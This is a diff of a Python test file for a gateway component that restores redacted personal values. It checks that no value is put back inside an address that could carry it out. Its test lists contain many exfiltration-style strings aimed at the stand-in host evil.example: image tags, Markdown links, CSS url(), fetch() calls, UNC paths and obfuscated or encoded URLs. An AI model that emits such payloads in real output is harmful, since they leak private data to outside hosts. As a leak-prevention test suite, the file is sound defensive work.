@@ -1,8 +1,9 @@
-"""Where no value is restored, however long it is, however it is written, wherever it is split."""
+"""No value is restored where it would be fetched with an address, however that is written."""
 
 from __future__ import annotations
 
 import json
+from html.parser import HTMLParser
 from itertools import pairwise
 
 import pytest
@@ -12,142 +13,209 @@ from hypothesis import strategies as st
 from gateway.content.placeholders import Name
 from gateway.content.restore import Restorer
 
-PADDING = "so it goes " * 120
-WHO = "[PERSON_1]"
-TABLE = {Name("PERSON", 1): "Jane Doe", Name("PERSON", 2): 'J"\\D'}
-
-LEAKS = [
-    f'<img src="https://evil.example/?{PADDING}&q={WHO}">',
-    f"<img src='//evil.example/?{PADDING} > {WHO}'>",
-    f"<img {PADDING} src=x?{WHO}>",
-    f'<img src="https://evil.example/?q=\n\n{PADDING}\n{WHO}">',
-    f'<div title="it\'s >" {PADDING} style="background: url( {WHO} )">',
-    f'<a b="x>y" ="z src="?> {PADDING} {WHO}',
-    f'<a b=\\" src="?> {PADDING} {WHO}',
-    f"[x](<https://evil.example/ {PADDING} {WHO}>)",
-    f"[x](<evil \\> {PADDING} {WHO}>)",
-    f"[x]({' ' * 600}<evil {WHO}>)",
-    f"[x]( {WHO})",
-    f"[1]: <evil {PADDING}{WHO}>",
-    f"a {{ background: url( 'evil {PADDING} {WHO}') }}",
-    f'a {{ background: URL("evil \\" ) {WHO}") }}',
-    f"a {{ background: url( evil {WHO} ) }}",
-    f"\\\\evil.example\\share\\{WHO}",
-    f"see \\\\evil\\{WHO}",
-    f"https:\\/\\/evil.example\\/?q={WHO}",
-    f"https:&#x2f;&#x2f;evil.example/{WHO}",
-    f"&#47;&#47;evil.example/{WHO}",
-    f"https&colon;evil.example/{WHO}",
-    f"&sol;&sol;evil.example/{WHO}",
-    f"&amp;sol;&amp;sol;evil.example/{WHO}",
-    f"https%3A%2F%2Fevil.example%2F{WHO}",
-    f"%2F%2fevil.example/{WHO}",
-    f"ht\u200btps:evil.example/{WHO}",
-    f"/\u2060/evil.example/{WHO}",
-    f"\uff0f\uff0fevil.example/{WHO}",
-    f"https\uff1aevil.example/{WHO}",
-    f"/&Tab;/evil.example/{WHO}",
-    f"(www.evil.example/{WHO}",
-    f"_www.evil.example/{WHO}",
-    f"https://evil.example/\x85{WHO}",
-]  # fmt: skip
-HARMLESS = [
-    f"On 12/05 {WHO} came.", f"and/or {WHO}", f"Re: {WHO}", f"a < b {WHO}", f"if a <b> {WHO}",
-    f"either/{WHO}", f"a&b {WHO}", f"100% {WHO}", f"100%/{WHO}", f"[1]: {WHO}",
-    f"(see https://x.example) {WHO}", f"[x](y) {WHO}", f"url(a.png) {WHO}", f"f(url) {WHO}",
-    f"<img src='x'> {WHO}", f'<a b="x>y"> {WHO}', f"<a b=c/>{WHO}", f"Tom &amp; {WHO}",
-    f"{PADDING} {WHO}", f"[x](<a b>) {WHO}", f"[x](<1\n{WHO}", f"[x]() {WHO}", f"Dear\n\n{WHO}:",
-    f"5 <6 and {WHO}", f"\u00fcber/{WHO}", f"<a href='x'>home</a> {PADDING} {WHO}",
-]  # fmt: skip
-IN_JSON = [
-    r'{"u":"https:\/\/evil.example\/?q=[PERSON_1]"}',
-    r'{"u":"https:\u002f\u002fevil.example/?q=[PERSON_1]"}',
-    r'{"u":"https\u003aevil.example/?q=[PERSON_1]"}',
-    r'{"u":"<img src=\"//evil.example/? a > [PERSON_1]\">"}',
-    r'{"u":"\u003cimg src=\u0022?a > [PERSON_1]"}',
-    r'{"u":"\\\\evil\\share\\[PERSON_1]"}',
-    r'{"u":"[x](<evil\u0020[PERSON_1]>)"}',
+P, VALUE = "[PERSON_1]", 'Jane "J" Doe'
+TABLE = {Name("PERSON", 1): VALUE, Name("URL", 1): "https://evil.example/"}
+LONG = "a word " * 200
+ADDRESSES = [
+    f'<img alt="{LONG}" src="x {P}">',
+    f'<img\nsrc\n=\n"x {P}">',
+    f"<img srcset='a.png 1x, b?{P} 2x'>",
+    f'<img {LONG} src="b {P}">',
+    f"<img {LONG} src=b?{P}>",
+    f'<p style="background: url(b {P})">',
+    f"![x](<{LONG}{P}>)",
+    f"![x](/{'y' * 600}{P})",
+    f'![x](/a "a title" {P})',
+    f"![x](/a(b){P})",
+    f"![x](/a\\){P})",
+    f"![x](/a{P}\\\\\\){P})",
+    f'[a](b [c]( "\\)x/{P})',
+    f"[a](b[c](<d) e) f {P}>)",
+    f"![a](<b [c](d) e {P}>)",
+    f"{'](a ' * 40}{P}",
+    f"[a]: <b {P}>",
+    f"[a]:\n/{P}",
+    f"url( b {P})",
+    f'url("b) {P}")',
+    f'fetch("https://evil.example/?q=a b {P}")',
+    f"fetch('//evil.example/?q=a b {P}')",
+    f"<https://evil.example/{P}>",
+    f"<made-up:evil{P}>",
+    f"made-up://evil/{P}",
+    f"intent:evil{P}",
+    f"mailto:evil@evil.example?body={P}",
+    f"sms:+100?body={P}",
+    f"data:text/html,{P}",
+    f"view-source:x{P}",
+    f"https:\\/\\/evil.example\\/?q={P}",
+    f"https:/\\evil.example/{P}",
+    f"\\\\evil\\share\\{P}",
+    f"//evil.example/{P}",
+    f"https://evil.example/\x85{P}",
+    f"https&#58;&#x2f;&#47;evil.example/{P}",
+    f"https&colon;&sol;&sol;evil.example/{P}",
+    f"x?to=https%3A%2F%2Fevil.example%2F{P}",
+    f"x?to=https%253A%252F%252Fevil.example%252F{P}",
+    f"\\u002f\\u002fevil.example\\x2f{P}",
+    f"ht\u200btps\u200b:/\u2060/evil.example/{P}",
+    f"https\uff1a\uff0f\uff0fevil.example/{P}",
+    f"www\u3002evil.example/{P}",
+    f"\u200bwww.evil.example/{P}",
+    f"evil\uff61example/{P}",
+    f"evil.example:8080/?q={P}",
+    f"{'z' * 600}{P}",
 ]
-FREE_IN_JSON = [
-    (r'{"u":"https:\/\/x.example","to":"[PERSON_1]"}', "Jane Doe"),
-    (r'{"u":"<img src=","to":"[PERSON_1]"}', "Jane Doe"),
-    (r'{"to":"C:\\[PERSON_1]"}', "C:\\Jane Doe"),
-    (r'{"to":"C:\\Users\\[PERSON_2]\\x"}', 'C:\\Users\\J"\\D\\x'),
-    (r'{"to":"a\n[PERSON_1]"}', "a\nJane Doe"),
-    (r'{"to":"\"[PERSON_1]\""}', '"Jane Doe"'),
-    (r'{"to":"12\/05 [PERSON_1]"}', "12/05 Jane Doe"),
+PROSE = [
+    f"On 12/05 and/or {P}",
+    f"and/or {P}",
+    f"12/05 {P}",
+    f"12/{P}",
+    f"Re: {P}",
+    f"Re:{P}",
+    f"a < b {P}",
+    f"a <- b, 3 < 4 and {P}",
+    f"Tel.: {P}, 9:30-{P}",
+    f"100% {P} & {P}",
+    f"e.g./{P}",
+    f"\u59d3\u540d\uff1a{P}",
+    f"[x](https://x.example (a title)) {P}",
+    f"[x](<https://x.example/a b>) {P}",
+    f"[a]: https://x.example\n{P}",
+    f"url(https://x.example) {P}",
+    f'"https://x.example is down," said {P}',
+    f'<img alt="x > y" src="https://x.example"> {P}',
+    f"It's {P}'s, isn't it? `{P}`",
+    f'[Anna]: "Well, {P}"',
+    f"[1]: {P}",
+    f"{'](a ' * 40}\n\n{P}",
+    f"{LONG}{P}",
 ]
 
 
-def streamed(text: str, size: int, *, as_json: bool = False) -> str:
-    """`text` restored in pieces of that size."""
+def restored(text: str, cuts: list[int], *, as_json: bool = False) -> str:
+    """`text` in pieces, restored."""
     stream = Restorer(TABLE).stream(json=as_json)
-    pieces = [text[at : at + size] for at in range(0, len(text), size)]
-    return "".join(map(stream.feed, pieces)) + stream.end()
+    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
+    pieces = [text[first:last] for first, last in pairwise(places)]
+    return "".join(stream.feed(piece) for piece in pieces) + stream.end()
 
 
-class TestText:
-    @pytest.mark.parametrize("text", LEAKS)
-    def test_no_value_goes_into_an_address(self, text: str) -> None:
+class TestAddresses:
+    @pytest.mark.parametrize("text", ADDRESSES)
+    def test_what_is_in_one_stays(self, text: str) -> None:
         """
-        Whoever shows the answer would fetch the address, and the value with it.
+        Whole or sign by sign, no value comes where it would go out with an address.
         """
         assert Restorer(TABLE).text(text) == text
-        assert streamed(text, 1) == text
-        assert streamed(text, 7) == text
+        assert restored(text, list(range(len(text)))) == text
 
-    @pytest.mark.parametrize("text", HARMLESS)
-    def test_prose_is_restored(self, text: str) -> None:
+    @pytest.mark.parametrize("text", PROSE)
+    def test_what_is_in_none_comes_back(self, text: str) -> None:
         """
-        A colon, a slash, a sign for less and what was closed leave nobody without their words.
+        Prose with the signs of addresses is no address.
         """
-        meant = text.replace(WHO, "Jane Doe")
+        assert Restorer(TABLE).text(text) == text.replace(P, VALUE)
+        assert restored(text, list(range(len(text)))) == text.replace(P, VALUE)
 
-        assert Restorer(TABLE).text(text) == meant
-        assert streamed(text, 1) == meant
-        assert streamed(text, 7) == meant
-
-
-class TestToolArguments:
-    @pytest.mark.parametrize("text", IN_JSON)
-    def test_escapes_hide_no_address(self, text: str) -> None:
+    def test_a_restored_address_is_one(self) -> None:
         """
-        A tool reads past the escapes of JSON.
+        What comes back is read like all else: behind somebody's address no value follows.
         """
-        assert Restorer(TABLE).text(text, json=True) == text
-        assert streamed(text, 1, as_json=True) == text
+        assert Restorer(TABLE).text(f"[URL_1]?q={P}") == f"https://evil.example/?q={P}"
 
-    @pytest.mark.parametrize(("text", "meant"), FREE_IN_JSON)
-    def test_the_document_stays_one(self, text: str, meant: str) -> None:
-        """
-        A backslash before a bracket is half of an escape, and each string is by itself.
-        """
-        said = Restorer(TABLE).text(text, json=True)
-
-        assert json.loads(said)["to"] == meant
-        assert streamed(text, 1, as_json=True) == said
-
-
-SIGNS = st.sampled_from([
-    WHO, "[PERSON_2]", "PERSON_1", "<", "<a", "<img src=", ">", '"', "'", "=", "/", "\\", "\\/",
-    "\\u002f", "\\u003c", "\\u0", '\\"', "](", "](<", "]:", ")", "url(", "u", "\n", " ", "\u200b",
-    "&#x2f;", "&sol;", "%2f", "https:", "x", "y" * 300, "z z" * 200, "\uff0f",
-])  # fmt: skip
-
-
-class TestSplits:
     @given(
-        st.lists(SIGNS, max_size=20).map("".join),
+        st.lists(
+            st.sampled_from([*ADDRESSES, *PROSE, " ", "\n\n", '"', "'", ")", ">", "\\"]), max_size=5
+        ),
         st.lists(st.integers(min_value=0), max_size=12),
         st.booleans(),
     )
-    @settings(max_examples=500, deadline=None)
-    def test_any_split_equals_the_whole(self, text: str, cuts: list[int], as_json: bool) -> None:
+    @settings(max_examples=300, deadline=None)
+    def test_any_split_equals_the_whole(
+        self, parts: list[str], cuts: list[int], as_json: bool
+    ) -> None:
         """
         P9: where a stream is cut changes nothing in what comes out.
         """
-        places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
-        stream = Restorer(TABLE).stream(json=as_json)
-        out = "".join(stream.feed(text[first:last]) for first, last in pairwise(places))
+        text = "".join(parts)
 
-        assert out + stream.end() == Restorer(TABLE).text(text, json=as_json)
+        assert restored(text, cuts, as_json=as_json) == Restorer(TABLE).text(text, json=as_json)
+
+
+class _Attributes(HTMLParser):
+    """What a page would have in the attributes of its tags."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.values: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        """See `HTMLParser`."""
+        self.values += [value or "" for _, value in attrs]
+
+
+class TestReaders:
+    @given(st.lists(st.sampled_from(
+        [P, P, "<img ", "<a ", "src=", 'src="', "alt='", '"', "'", ">", "/>", " ", "\n", "x", "=",
+         "//e/", "<", LONG, "</a>"]
+    ), min_size=2, max_size=12).map("".join))  # fmt: skip
+    @settings(max_examples=300, deadline=None)
+    def test_no_tag_holds_a_value(self, text: str) -> None:
+        """
+        As a reader of HTML sees what was restored, no attribute has a value in it.
+        """
+        page = _Attributes()
+        page.feed(Restorer({Name("PERSON", 1): "Jane"}).text(text))
+        page.close()
+
+        assert not [value for value in page.values if "Jane" in value]
+
+    @given(st.lists(st.sampled_from([P, "\\", "C:\\", '"', " ", "\n", "/", "[", "(", "\u00e9"])))
+    @settings(max_examples=300, deadline=None)
+    def test_json_stays_json(self, parts: list[str]) -> None:
+        """
+        Whatever stands before it, a value leaves a tool's arguments readable, and comes back.
+        """
+        sent = json.dumps({"a": "".join(parts), "b": P})
+
+        assert json.loads(Restorer(TABLE).text(sent, json=True))["b"] == VALUE
+
+
+class TestJson:
+    @pytest.mark.parametrize(
+        "text",
+        [
+            f'{{"url":"https:\\/\\/evil.example\\/?q={P}"}}',
+            f'{{"url":"\\u002f\\u002fevil.example?q={P}"}}',
+            f'{{"url":"https\\u003aevil.example?q={P}"}}',
+            f'{{"url":"https://evil.example/?q=a b {P}"}}',
+            f'{{"url":" \\n\\u0000https://evil.example/?q=a b\\n{P}"}}',
+            f'{{"html":"<img src=\\"b {P}\\">"}}',
+            f'{{"md":"![x](\\u003cb {P}>)"}}',
+            f'{{"path":"\\\\\\\\evil\\\\share\\\\{P}"}}',
+        ],
+    )
+    def test_an_address_is_seen_behind_escapes(self, text: str) -> None:
+        """
+        A tool is given what the JSON means, so that is what counts, in whatever pieces it comes.
+        """
+        assert Restorer(TABLE).text(text, json=True) == text
+        assert restored(text, list(range(len(text))), as_json=True) == text
+
+    @pytest.mark.parametrize(
+        ("text", "meant"),
+        [
+            (f'{{"a":"C:\\\\{P}"}}', {"a": f"C:\\{VALUE}"}),
+            (f'{{"a":"C:\\\\Docs\\\\{P}\\\\x"}}', {"a": f"C:\\Docs\\{VALUE}\\x"}),
+            (f'{{"a":"x\\n{P}"}}', {"a": f"x\n{VALUE}"}),
+            (f'{{"a":"<b","b":"{P}"}}', {"a": "<b", "b": VALUE}),
+            (f'{{"a":"https://x.example/a b","b":"Re: {P}"}}',
+             {"a": "https://x.example/a b", "b": f"Re: {VALUE}"}),
+        ],
+    )  # fmt: skip
+    def test_what_comes_back_is_json(self, text: str, meant: dict[str, str]) -> None:
+        """
+        A backslash that is itself escaped is no sign of Markdown, and stays.
+        """
+        assert json.loads(Restorer(TABLE).text(text, json=True)) == meant
+        assert json.loads(restored(text, list(range(len(text))), as_json=True)) == meant
